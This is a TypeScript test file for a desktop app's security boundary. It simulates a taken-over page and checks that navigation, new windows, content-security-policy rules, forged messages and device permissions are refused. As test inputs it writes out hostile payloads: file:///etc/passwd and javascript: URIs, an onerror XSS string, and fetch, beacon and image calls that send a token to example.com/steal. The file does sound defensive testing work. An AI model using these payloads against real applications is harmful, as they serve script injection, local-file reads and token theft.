import { afterAll, beforeAll, expect, test } from 'vitest'
import { hostMethodNames } from '#test/support/host-inputs.ts'
import { eventually } from '#test/support/eventually.ts'
import type { DesktopApp } from './support/desktop-app.ts'
import { startDesktop } from './support/start-desktop.ts'

/** A page that was taken over, in the built app: what Chromium and the main process let it do. */

let app: DesktopApp

beforeAll(async () => {
  app = await startDesktop()
  await app.console.getByRole('heading', { level: 1 }).waitFor()
}, 60_000)

afterAll(() => app[Symbol.asyncDispose]())

/** Still our own page, alive, with its host. */
async function isHome(): Promise<void> {
  const answer = await askFromPage('app.snapshot')
  expect(answer).toMatchObject({ ok: true })
  expect(await app.window('/')).toMatchObject({ address: 'app://switchhook/' })
}

/** Asks the host as any script of the page could. */
async function askFromPage(method: string, input?: unknown): Promise<unknown> {
  return app.console.evaluate(
    ([name, given]) =>
      new Promise((resolve, reject) => {
        type Bridge = { post(frame: object): void; on(listener: (frame: never) => void): () => void }
        const bridge = Reflect.get(globalThis, 'switchhook') as Bridge
        const id = Math.floor(1e9 + Math.random() * 1e9)
        const stop = bridge.on(({ kind, id: answered, result }: Record<string, unknown>) => {
          if (kind !== 'reply' || answered !== id) return
          stop()
          resolve(result)
        })
        setTimeout(() => reject(new Error(`${String(name)} is not answered`)), 10_000)
        bridge.post({ kind: 'ask', id, method: name, ...(given !== undefined && { input: given }) })
      }),
    [method, input] as const,
  )
}

test.for([
  'https://example.com/',
  'http://127.0.0.1:1/',
  'file:///etc/passwd',
  'data:text/html,<h1>hello</h1>',
  'javascript:document.body.append("ran")',
  'app://switchhook.example/',
])('the page does not go to %s', async (address) => {
  await app.console.evaluate((to) => {
    setTimeout(() => {
      location.href = to
    })
  }, address)
  await app.console.evaluate(() => new Promise((resolve) => setTimeout(resolve, 200)))
  await isHome()
  expect(await app.console.getByText('ran', { exact: true }).count()).toBe(0)
})

test('a window is never opened: web links go outside, everything else goes nowhere', async () => {
  const before = (await app.openedOutside()).length
  const hostile = [
    'file:///etc/passwd',
    'javascript:alert(1)',
    'data:text/html,hello',
    'ms-msdt:/id',
    'https://user:password@example.com/',
    'smb://server/share',
    'app://switchhook/',
    'about:blank',
  ]
  for (const address of [...hostile, 'https://example.com/good'])
    await app.console.evaluate((to) => void window.open(to), address)
  for (const url of hostile) expect(await askFromPage('app.openLink', { url })).toMatchObject({ ok: false })
  await eventually(async () =>
    expect((await app.openedOutside()).slice(before)).toEqual(['https://example.com/good']),
  )
  const denied = app.facts('window-denied').map(({ url }) => url)
  expect(denied).toEqual(
    expect.arrayContaining(['data:text/html,hello', 'about:blank', 'https://example.com/good']),
  )
  await isHome()
})

const policyRules = [
  ...['base-uri', 'connect-src', 'form-action', 'frame-src', 'img-src', 'media-src'],
  ...['require-trusted-types-for', 'style-src-elem', 'style-src-attr'],
]

test('Chromium refuses what the policy of the page forbids, and says which rule it was', async () => {
  const seen = await app.console.evaluate(async (expected) => {
    // What a debugger evaluates may evaluate text itself; what comes after it may not.
    await new Promise((resolve) => setTimeout(resolve))
    const rules: string[] = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      rules.push(effectiveDirective),
    )
    const attempt = async (act: () => unknown): Promise<unknown> => {
      try {
        return await act()
      } catch (fault) {
        return fault instanceof Error ? fault.name : 'refused'
      }
    }
    const added = (name: string, fields: Readonly<Record<string, string>>) =>
      attempt(() => {
        const element = document.createElement(name)
        for (const [field, value] of Object.entries(fields)) element.setAttribute(field, value)
        document.body.append(element)
        if (element instanceof HTMLFormElement) element.submit()
        element.click()
      })
    const script = document.createElement('script')
    script.append('globalThis.inlineRan = true')
    document.head.append(script)
    const results = {
      inline: Reflect.get(globalThis, 'inlineRan') === true,
      evaluated: await attempt(() => Reflect.construct(Function, ['return 1'])()),
      markup: await attempt(() => {
        const place = document.createElement('div')
        place.innerHTML = '<img src=x onerror="globalThis.markupRan = true">'
        return place.innerHTML
      }),
      fetched: await attempt(() => fetch('https://example.com/steal?token=1')),
      local: await attempt(() => fetch('http://127.0.0.1:9/')),
      beacon: await attempt(() => navigator.sendBeacon('https://example.com/steal', 'token')),
      worker: await attempt(() => new Worker(URL.createObjectURL(new Blob(['1'])))),
    }
    await added('img', { src: 'https://example.com/steal.png?token=1' })
    await added('iframe', { src: 'https://example.com/' })
    await added('object', { data: 'https://example.com/x.swf' })
    await added('link', { rel: 'stylesheet', href: 'https://example.com/x.css' })
    await added('p', { style: 'color: red' })
    await added('p', { onclick: 'globalThis.handlerRan = true' })
    await added('audio', { src: 'https://example.com/x.mp3' })
    await added('form', { action: 'https://example.com/', method: 'post' })
    await attempt(() => new WebSocket('wss://example.com/'))
    await attempt(() => new EventSource('https://example.com/'))
    const base = document.createElement('base')
    base.setAttribute('href', 'https://example.com/')
    document.head.append(base)
    const isComplete = () => expected.every((rule) => rules.includes(rule))
    for (let waits = 0; waits < 100 && !isComplete(); waits++)
      await new Promise((resolve) => setTimeout(resolve, 100))
    base.remove()
    script.remove()
    const ran = ['inlineRan', 'markupRan', 'handlerRan'].filter(
      (name) => Reflect.get(globalThis, name) === true,
    )
    return { rules: [...new Set(rules)].toSorted(), results, ran }
  }, policyRules)
  expect(seen.ran).toEqual([])
  expect(seen.results).toMatchObject({
    inline: false,
    fetched: 'TypeError',
    local: 'TypeError',
    markup: 'TypeError',
  })
  expect(seen.results.evaluated).not.toBe(1)
  expect(seen.rules).toEqual(expect.arrayContaining(policyRules))
  await isHome()
})

test('a script from another origin does not run, even if the page adds it', async () => {
  const rule = await app.console.evaluate(
    () =>
      new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
          resolve(effectiveDirective),
        )
        const script = document.createElement('script')
        try {
          script.setAttribute('src', 'https://example.com/x.js')
        } catch {
          return resolve('refused before it was named')
        }
        document.head.append(script)
      }),
  )
  expect(['require-trusted-types-for', 'script-src-elem', 'refused before it was named']).toContain(rule)
})

test('messages from another origin, from a frame in the page or from another window are refused', async () => {
  const order = { kind: 'ask', id: 7, method: 'settings.change', input: { changes: { theme: 'dark' } } }
  const theme = async () => {
    const answer = (await askFromPage('app.snapshot')) as { value: { settings: { theme: string } } }
    return answer.value.settings.theme
  }
  const before = await theme()
  const senders = [
    { address: 'https://example.com/' },
    { address: 'app://switchhook.example/' },
    { address: 'file:///switchhook/index.html' },
    { address: 'data:text/html,hello' },
    { address: 'app://switchhook/', inFrame: true },
  ]
  for (const sender of senders)
    for (const channel of ['open', 'frame'])
      await app.forge({ window: 'console', ...sender, channel, args: [order] })
  expect(await theme()).toBe(before)
  expect(app.stderr()).toContain('page.refused')
  await app.forge({
    window: 'console',
    address: 'app://switchhook/',
    channel: 'no-such-channel',
    args: [order],
  })
  expect(await theme()).toBe(before)
})

test('every method of the host answers a page that was taken over, and nothing of what it sent is logged', async () => {
  const canary = 'CANARY-4711'
  for (const method of [...hostMethodNames, '__proto__', 'constructor', 'toString', canary]) {
    if (['session.tryDemo', 'windows.hide', 'windows.become', 'app.licences'].includes(method)) continue
    for (const input of [{ [canary]: canary }, [canary], canary.repeat(1_000), 7]) {
      const answer = await askFromPage(method, input)
      expect([method, typeof (answer as { ok?: unknown }).ok]).toEqual([method, 'boolean'])
    }
  }
  await isHome()
  expect(app.stderr()).not.toContain(canary)
  expect(app.stderr()).not.toContain('host.method-failed')
}, 60_000)

test('cameras, places and screens are refused by Chromium itself', async () => {
  const answers = await app.console.evaluate(async () => {
    const state = async (name: string) =>
      (await navigator.permissions.query({ name: name as PermissionName }).catch(() => null))?.state
    const camera = await navigator.mediaDevices.getUserMedia({ video: true }).then(
      () => 'given',
      (fault: unknown) => (fault instanceof Error ? fault.name : 'refused'),
    )
    const screen = await navigator.mediaDevices.getDisplayMedia().then(
      () => 'given',
      (fault: unknown) => (fault instanceof Error ? fault.name : 'refused'),
    )
    return { camera, screen, geolocation: await state('geolocation') }
  })
  expect(answers.camera).not.toBe('given')
  expect(answers.screen).not.toBe('given')
  expect(answers.geolocation).toBe('denied')
})

test('the bridge cannot be changed, and is all that there is', async () => {
  const bridge = await app.console.evaluate(() => {
    const { writable, configurable, value } = Reflect.getOwnPropertyDescriptor(globalThis, 'switchhook') ?? {}
    return { writable, configurable, frozen: Object.isFrozen(value), names: Object.keys(value as object) }
  })
  expect(bridge).toEqual({ writable: false, configurable: false, frozen: true, names: ['post', 'on'] })
})

test('after all of that the app ends in order, and has logged no fault', async () => {
  const { code, errors } = await app.quit()
  expect(code).toBe(0)
  expect(errors).not.toContain('"level":"error"')
})
